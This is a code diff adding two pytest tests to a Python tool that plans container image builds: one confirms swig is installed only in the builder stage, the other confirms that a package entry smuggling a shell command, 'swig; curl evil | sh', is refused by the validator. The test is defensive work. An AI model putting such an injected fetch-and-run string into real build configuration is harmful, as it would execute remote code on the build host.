@@ -109,6 +109,25 @@ def test_cuda_sources_build_on_the_devel_image_when_the_base_is_nvidia_cuda(matr
     assert any("devel image" in n for n in sb.notes)
 
 
+def test_a_build_that_runs_a_system_tool_gets_it_in_the_builder_only(matrix):
+    # rl-baselines3-zoo's box2d-py sdist runs swig (issue 20: "command 'swig' failed" in the builder)
+    sb = plan_source_builds([("box2d-py", "2.3.8")], load_image_tables().build_needs, None, False)
+    assert sb.apt == ("swig",) and any(n.startswith("box2d-py runs swig while it builds") for n in sb.notes)
+    plan, _ = _plan(matrix, sb)
+    assert "build-essential swig" in plan.builder.system_step.command
+    assert plan.system_step is None  # never in the image
+
+
+def test_a_build_tool_that_is_no_debian_package_name_is_refused(tmp_path, monkeypatch):
+    from envman.errors import DataError
+    from envman.image import tables
+
+    doc = {"schema": 1, "packages": {"x": {"apt": ["swig; curl evil | sh"], "source": "s"}}}
+    with pytest.raises(DataError) as e:
+        tables._tables({tables.BUILD_NEEDS: doc, tables.SYSTEM_LIBRARIES: {"schema": 1, "packages": {}}}, "d")
+    assert "packages.x.apt: not Debian package names: swig; curl evil | sh" in e.value.message
+
+
 def test_a_source_only_package_inside_the_framework_closure_is_refused_at_lock_time():
     with pytest.raises(LockError) as e:
         refuse_in_framework_closure([("promise", "2.3")], {"torch", "promise"}, "torch")
